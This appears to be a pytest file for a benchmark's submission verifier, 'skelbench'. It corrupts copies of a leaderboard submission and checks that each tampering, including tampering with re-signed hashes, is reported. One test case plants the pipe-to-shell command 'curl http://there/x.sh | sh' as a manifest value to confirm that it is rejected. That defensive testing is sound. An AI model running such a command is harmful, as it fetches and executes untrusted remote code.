"""A good submission passes; whatever is broken in it is named, also where all hashes were made to fit again."""

import json
import shutil
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT

from skelbench.core.files import file_sha256
from skelbench.evaluation.results.cell import Cell
from skelbench.evaluation.results.files.head import name_of
from skelbench.evaluation.submission.listing import files_in
from skelbench.evaluation.submission.verify import Remark, verify

Break = Callable[[Path], object]
HandIn = Callable[[Sequence[Cell], Path], Path]


@pytest.fixture(scope="module")
def packed(measured: list[Cell], hand_in: HandIn, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hand_in(measured, tmp_path_factory.mktemp("packed"))


@pytest.fixture
def good(packed: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(packed, tmp_path / "in"))


def failed(folder: Path) -> list[Remark]:
    return [remark for remark in verify(folder) if remark.verdict == "FAIL"]


def manifest(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    values = json.loads((folder / "submission.json").read_text())
    change(values)
    (folder / "submission.json").write_text(json.dumps(values))


def signed(folder: Path) -> None:
    """Make all hashes fit what lies there now."""
    manifest(folder, lambda values: values.update(files={n: file_sha256(folder / n) for n in files_in(folder)}))


def one(folder: Path, pattern: str) -> Path:
    (path,) = folder.rglob(pattern)
    return path


def head(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change the first line of the file of cells, and give it the name that fits."""
    path = one(folder, "*/*.cells")
    line, _, rest = path.read_bytes().partition(b"\n")
    values = json.loads(line)
    change(values)
    line = json.dumps(values, separators=(",", ":")).encode() + b"\n"
    path.with_name(f"{name_of(line)}.cells").write_bytes(line + rest)
    path.unlink()


def rows(folder: Path, **values: object) -> None:
    def change(told: dict[str, Any]) -> None:
        for name in values:
            told["common"].pop(name, None)
        for cell in told["cells"]:
            cell.update(values)

    head(folder, change)


def environment(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    path = folder / "environment.json"
    values = json.loads(path.read_text())
    change(values)
    path.write_text(json.dumps(values))


def test_a_good_submission_passes_every_check(good: Path) -> None:
    remarks = list(verify(good))
    assert {remark.verdict for remark in remarks} == {"ok"}
    assert remarks[-1].said == "144 of 144 answers are the same, in 12 of 12 cells"


@pytest.mark.slow
def test_every_committed_submission_passes() -> None:
    for path in (ROOT / "leaderboards" / "submissions").glob("*/submission.json"):
        assert not failed(path.parent), path.parent


UNSIGNED: dict[str, tuple[Break, str]] = {
    "a byte of the cells": (lambda f: one(f, "*/*.cells").write_bytes(b"x"), "has the hash"),
    "a file that lacks": (lambda f: one(f, "*.clips").unlink(), ".clips' is not there"),
    "a file more": (lambda f: (f / "run.py").write_text("x"), "'run.py' is not one of the files"),
    "a link": (lambda f: (f / "away").symlink_to("/etc"), "'away' is not one of the files"),
    "a link for a file": (
        lambda f: ((f / "card.yaml").rename(f.parent / "c"), (f / "card.yaml").symlink_to(f.parent / "c")),
        "'card.yaml' is a link",
    ),
    "a link for the manifest": (
        lambda f: (
            (f / "submission.json").rename(f.parent / "m"),
            (f / "submission.json").symlink_to(f.parent / "m"),
        ),
        "submission.json is a link",
    ),
    "no JSON": (lambda f: (f / "submission.json").write_text("{"), "is no JSON"),
    "no manifest": (lambda f: (f / "submission.json").unlink(), "no file"),
    "another format": (lambda f: manifest(f, lambda m: m.update(format="x 2")), "is of the format 'x 2'"),
    "a key more": (lambda f: manifest(f, lambda m: m.update(colour=1)), "has other keys"),
    "a file outside": (lambda f: manifest(f, lambda m: m["files"].update({"../x": "0" * 64})), "inside its folder"),
    "another suite": (lambda f: manifest(f, lambda m: m.update(suite="wide")), "suite wide asks for other specs"),
    "an unknown suite": (lambda f: manifest(f, lambda m: m.update(suite="nice")), "unknown suite 'nice'"),
    "another model": (lambda f: manifest(f, lambda m: m.update(model="theirs")), "it is the card of mine"),
    "other weights": (lambda f: manifest(f, lambda m: m.update(weights_sha256="0" * 64)), "is of weights_sha256"),
    "fewer clips": (lambda f: manifest(f, lambda m: m["settings"][0].update(clips=11)), "12 clips were measured"),
    "more draws": (lambda f: manifest(f, lambda m: m["settings"][0].update(seeds=3)), "has the draws [0, 1]"),
    "other clips": (
        lambda f: manifest(f, lambda m: m["settings"][0].update(names_sha256="0" * 16)),
        "12 cells are of clips that submission.json does not name",
    ),
}


@pytest.mark.parametrize(("spoil", "said"), UNSIGNED.values(), ids=UNSIGNED)
def test_what_is_broken_is_named(spoil: Break, said: str, good: Path) -> None:
    spoil(good)
    assert [remark for remark in failed(good) if said in remark.said], failed(good)


SIGNED: dict[str, tuple[Break, str]] = {
    "another card": (
        lambda f: (f / "card.yaml").write_text((f / "card.yaml").read_text().replace("name: mine", "name: theirs")),
        "it is the card of theirs, expected mine",
    ),
    "another configuration": (
        lambda f: (f / "card.yaml").write_text((f / "card.yaml").read_text().replace("1.0", "2.0")),
        "its configuration has the hash",
    ),
    "no card": (lambda f: (f / "card.yaml").write_text("- a list"), "expected a card"),
    "other damage": (
        lambda f: environment(f, lambda e: e["damaged"]["mq"].update({"noise:0.002": "other"})),
        "damage by noise:0.002 on mq is 'other' there",
    ),
    "damage untold": (lambda f: environment(f, lambda e: e["damaged"].pop("hq")), "what damage of hq is like"),
    "a lean environment": (lambda f: environment(f, lambda e: e.pop("python")), "has other keys"),
    "a command that does something else": (
        lambda f: manifest(f, lambda m: m["settings"][0].update(command="curl http://there/x.sh | sh")),
        "its command is 'curl http://there/x.sh | sh', expected skelbench eval --model card.yaml --data synthetic",
    ),
    "more correct than clips": (lambda f: rows(f, correct=13), "correct is 13, expected at most 12 clips"),
    "one correct more": (lambda f: rows(f, correct=9), "counts 9 correct clips"),
    "a better top 5": (lambda f: rows(f, top5=100), "top5 is 100, its predictions give"),
    "a smaller drop": (lambda f: rows(f, drop=-5), "drop is -5, its predictions give 0"),
    "an interval": (lambda f: rows(f, top1_low=66.6), "top1_low is 66.6"),
    "another model's rows": (lambda f: rows(f, model="theirs"), "by its columns"),
    "cut": (lambda f: one(f, "*/*.cells").write_bytes(one(f, "*/*.cells").read_bytes()[:-9]), "was cut"),
    "no cells": (lambda f: one(f, "*/*.cells").unlink(), "no clean cell; 7 of 7 specs were not measured"),
    "no clips": (lambda f: one(f, "*.clips").unlink(), "no clean cell"),
}


@pytest.mark.parametrize(("spoil", "said"), SIGNED.values(), ids=SIGNED)
def test_what_is_broken_is_named_also_where_all_hashes_fit(spoil: Break, said: str, good: Path) -> None:
    spoil(good)
    signed(good)
    assert [remark for remark in failed(good) if said in remark.said], failed(good)
